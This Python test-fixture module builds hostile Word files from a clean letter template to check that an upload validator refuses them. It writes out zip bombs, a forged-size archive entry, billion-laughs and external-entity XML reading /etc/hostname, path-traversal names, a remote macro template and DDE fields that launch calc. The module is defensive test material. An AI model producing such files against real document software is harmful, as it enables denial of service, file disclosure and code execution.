"""Word files as an attacker would send them, each made from an honest one; and what the refusal must say."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache

from docx import Document

from letterladder.config.paths import LETTER_TEMPLATES

RELS = "word/_rels/document.xml.rels"
SETTINGS_RELS = "word/_rels/settings.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@cache
def honest(text: str = "Dear Mr Dunn") -> bytes:
    """A plain Word file."""
    document = Document(str(LETTER_TEMPLATES / "L1-removal-request.docx"))
    document.add_paragraph(text)
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def changed(parts: Mapping[str, bytes], *, packed: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The honest file with these files inside replaced or added."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(honest())) as source, zipfile.ZipFile(made, "w", packed) as target:
        for name in source.namelist():
            if name not in parts:
                target.writestr(name, source.read(name))
        for name, content in parts.items():
            target.writestr(name, content)
    return made.getvalue()


def part(name: str) -> str:
    """One file inside the honest one, as text."""
    with zipfile.ZipFile(io.BytesIO(honest())) as source:
        return source.read(name).decode()


def body_of(words: str) -> str:
    """A whole text of these words."""
    return f"<w:document {W}><w:body><w:p><w:r><w:t>{words}</w:t></w:r></w:p></w:body></w:document>"


def with_body(xml: str) -> bytes:
    """The honest file with this at the end of its text."""
    text = part("word/document.xml").replace("</w:body>", f"{xml}</w:body>")
    return changed({"word/document.xml": text.encode()})


def with_field(*runs: str) -> bytes:
    """A field whose instruction is spread over these runs."""
    pieces = "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)
    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
    return with_body(f"<w:p>{marks[0]}{pieces}{marks[1]}<w:r><w:t>x</w:t></w:r>{marks[2]}</w:p>")


def with_link(kind: str, target: str, *, away: bool = True) -> bytes:
    """A relation of the text to something."""
    mode = ' TargetMode="External"' if away else ""
    link = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    return changed({RELS: part(RELS).replace("</Relationships>", link).encode()})


def remote_template() -> bytes:
    """Word fetches the template when the letter is opened, and runs its macros."""
    link = f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="https://x.example/t.dotm"'
    xmlns = "http://schemas.openxmlformats.org/package/2006/relationships"
    return changed(
        {
            SETTINGS_RELS: f'<Relationships xmlns="{xmlns}">{link} TargetMode="External"/></Relationships>'.encode()
        }
    )


def laughs() -> bytes:
    """Nine entities, each ten times the one before."""
    entities = "".join(
        f'<!ENTITY a{place} "{f"&a{place - 1};" * 10}">' if place else '<!ENTITY a0 "ha">'
        for place in range(10)
    )
    text = f"<!DOCTYPE d [{entities}]>{body_of('&a9;')}"
    return changed({"word/document.xml": text.encode()})


def outside_entity() -> bytes:
    """An entity that is a file of this machine."""
    text = f'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>{body_of("&x;")}'
    return changed({"word/document.xml": text.encode()})


def zeros(megabytes: int = 10) -> bytes:
    """A picture of nothing but zeros, a thousand times smaller than it is."""
    return changed({"word/media/image1.png": bytes(megabytes * 1_000_000)})


def zip_within() -> bytes:
    """A bomb within the file, under the name of a picture."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("0.txt", bytes(50_000_000))
    return changed({"word/media/image1.png": inner.getvalue()})


def size_told_wrong(megabytes: int = 300) -> bytes:
    """A file inside that says it is 100 bytes long, with the right sum for its first 100 bytes."""
    made = io.BytesIO(honest())
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(squeeze.compress(bytes(1_000_000)) for _ in range(megabytes)) + squeeze.flush()
    with zipfile.ZipFile(made, "a") as target:
        entry = zipfile.ZipInfo("word/media/image1.png")
        place = target.start_dir
        target.writestr(entry, packed)
        listed = target.getinfo(entry.filename)
        listed.compress_type, listed.file_size, listed.CRC = zipfile.ZIP_DEFLATED, 100, zlib.crc32(bytes(100))
    whole = bytearray(made.getvalue())
    struct.pack_into("<H", whole, place + 8, zipfile.ZIP_DEFLATED)
    struct.pack_into("<LLL", whole, place + 14, zlib.crc32(bytes(100)), len(packed), 100)
    return bytes(whole)


def many_parts(parts: int = 100_000) -> bytes:
    """So many empty files inside."""
    made = io.BytesIO(honest())
    with zipfile.ZipFile(made, "a") as target:
        for number in range(parts):
            target.writestr(zipfile.ZipInfo(f"word/{number}.xml"), b"")
    return made.getvalue()


def locked() -> bytes:
    """A file inside is marked as encrypted."""
    whole = bytearray(honest())
    entry = whole.index(b"PK\x01\x02")
    whole[entry + 8] |= 1
    return bytes(whole)


def twice() -> bytes:
    """Two texts in one file: one program shows the first, another the second."""
    made = io.BytesIO(honest())
    with zipfile.ZipFile(made, "a") as target:
        target.writestr("word/Document.xml", part("word/document.xml"))
    return made.getvalue()


def of_type(old: str, new: str, extra: Mapping[str, bytes] | None = None) -> bytes:
    """The list of contents says something else."""
    types = part("[Content_Types].xml")
    assert old in types
    return changed({"[Content_Types].xml": types.replace(old, new, 1).encode(), **(extra or {})})


MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
OBJECT = f'<w:p><w:r><w:object><o:OLEObject {VML} r:id="rId9"/></w:object></w:r></w:p>'
PICTURE = f'<w:p><w:r><w:pict><v:imagedata {VML} src="https://x.example/a"/></w:pict></w:r></w:p>'

BOMBS: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "zeros": ("far too large", zeros),
    "a bomb as a picture": ("disguised as", zip_within),
    "a size told wrong": ("damaged", size_told_wrong),
    "a size told wrong, smaller": ("damaged", lambda: size_told_wrong(30)),
    "a hundred thousand parts": ("more than 2000 files", many_parts),
    "three thousand parts": ("more than 2000 files", lambda: many_parts(3_000)),
    "billion laughs": ("entities", laughs),
    "an outside entity": ("entities", outside_entity),
    "packed strangely": ("does not use", lambda: changed({}, packed=zipfile.ZIP_BZIP2)),
    "two texts": ("same name", twice),
    "broken XML": ("damaged", lambda: changed({"word/document.xml": b"<w:document>"})),
    "cut short": ("damaged", lambda: honest()[:-200]),
}
"""Files that hurt whoever opens them; and the words by which they are refused."""

LARGEST = frozenset({"a size told wrong", "a hundred thousand parts"})
"""Those that take long to make, and of which there is a smaller one."""

TRICKS: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "locked": ("password", locked),
    "locked by Word": ("password", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)),
    "a program": ("program", lambda: b"MZ\x90\x00" + bytes(4096)),
    "RTF": ("RTF", lambda: b"{\\rtf1 hello}"),
    "a PDF": ("PDF", lambda: b"%PDF-1.4\n"),
    "words": ("not a Word file", lambda: b"no Word file at all"),
    "a name that climbs": ("leads out", lambda: changed({"../../../evil.xml": b"<a/>"})),
    "a name with a drive": ("leads out", lambda: changed({"C:\\evil.xml": b"<a/>"})),
    "a name from the root": ("leads out", lambda: changed({"/etc/evil.xml": b"<a/>"})),
    "a program inside": ("no place", lambda: changed({"word/run.exe": b"MZ"})),
    "a remote template": ("template elsewhere", remote_template),
    "a remote picture": ("fetch", lambda: with_link("image", "https://x.example/pixel.png")),
    "a picture on a share": ("fetch", lambda: with_link("image", "\\\\x.example\\a.png", away=False)),
    "an old picture": ("fetch", lambda: with_body(PICTURE)),
    "a file on the machine": ("some computer", lambda: with_link("hyperlink", "file:///etc/passwd")),
    "a linked object": ("embedded object", lambda: with_link("oleObject", "https://x.example/o")),
    "an embedded object": ("embedded object", lambda: with_body(OBJECT)),
    "macros": ("macros", lambda: of_type(MAIN, MACROS)),
    "a project of macros": ("no place", lambda: changed({"word/vbaProject.bin": b"\xd0\xcf"})),
    "text as a picture": (
        "a picture",
        lambda: of_type("</Types>", '<Default Extension="png" ContentType="application/xml"/></Types>'),
    ),
    "another file": ("takes the place", lambda: with_body('<w:altChunk r:id="rId9"/>')),
    "DDE": ("field (DDEAUTO)", lambda: with_field(' DDEAUTO c:\\\\x "/k calc" ')),
    "DDE in pieces": ("field (DDE)", lambda: with_field(" D", "D", 'E c:\\\\x "/k calc" ')),
    "DDE spelled in numbers": ("field (QUOTE)", lambda: with_field(" QUOTE 68 68 69 ")),
    "a remote picture by a field": (
        "field (INCLUDEPICTURE)",
        lambda: with_field(' INCLUDEPICTURE "https://x.example/a" \\d '),
    ),
    "remote text by a field": (
        "field (INCLUDETEXT)",
        lambda: with_field(' INCLUDETEXT "https://x.example/a" '),
    ),
    "a simple field": (
        "field (LINK)",
        lambda: with_body('<w:p><w:fldSimple w:instr=" LINK Word.Document.8 x "/></w:p>'),
    ),
    "a date that changes": ("field (DATE)", lambda: with_field(' DATE \\@ "d MMMM yyyy" ')),
    "a drawing that runs": (
        "a program",
        lambda: changed(
            {"word/media/a.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'}
        ),
    ),
}
"""Files that would fetch, run, hide or change something in a letter; and the words by which they are refused."""
